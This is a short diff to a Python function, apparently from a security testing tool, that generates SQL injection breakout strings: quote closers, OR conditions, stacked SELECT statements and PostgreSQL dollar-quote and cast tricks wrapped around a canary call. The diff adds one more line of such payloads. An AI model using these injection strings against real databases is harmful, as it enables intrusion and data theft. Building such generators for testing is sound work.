@@ -36,6 +36,7 @@ def breakouts(call: str, canary: Canary) -> list[str]:
     out += [f"{close} oR {call}>0 oR '1'='" for close in ("'", "''")]
     out += [f"'; SELECT {call} {tail}", f"'); SELECT {call} {tail}", f"']; SELECT {call} {tail}"]
     out += [f"$$||{call}||$$", f"$$||{call}{tail}", f"$$ OR {call}>0 {tail}", f"$$) OR {call}>0 {tail}"]
+    out += [f"$'{close} IS NULL OR {call}>0 {tail}" for close in ("", ")", "]", "])")]
     out += [f"' OR internal {tail}", f"') OR internal {tail}", f"\"||{call}||\""]
     letter = "'::text::pg_catalog.char::int::text"  # whatever stood before is its first letter's number now: a text without quotes
     document, texts = f"{letter}::jsonb", f"{letter}::int2vector::int2[]::text[]"
